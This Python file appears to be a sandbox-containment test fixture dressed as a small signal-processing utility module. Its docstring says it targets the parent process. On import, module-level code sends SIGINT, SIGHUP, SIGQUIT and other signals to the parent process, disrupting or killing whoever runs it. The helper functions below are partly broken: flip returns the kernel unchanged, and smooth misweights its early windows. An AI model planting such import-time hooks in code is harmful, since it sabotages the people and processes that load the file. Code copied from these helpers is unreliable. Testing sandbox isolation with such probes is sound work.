"""Sends the process above it all that can be caught, while the file is run.

Stopped by: bubblewrap: a process space of its own. process: signals reach nobody else.
"""

import numpy as np

import os
import signal

for number in (signal.SIGINT, signal.SIGHUP, signal.SIGUSR1, signal.SIGPIPE, signal.SIGQUIT):
    try:
        if os.getppid() > 1:
            os.kill(os.getppid(), number)
    except OSError:
        pass


def smooth(signal, width):
    if width < 1:
        raise ValueError(width)
    signal = np.asarray(signal, float)
    return np.array([signal[max(0, t - width + 1) : t + 1].sum() / width for t in range(len(signal))])


def same_padding(field):
    if field < 1 or field % 2 == 0:
        raise ValueError(field)
    return (field - 1) // 2


def flip(kernel):
    return kernel
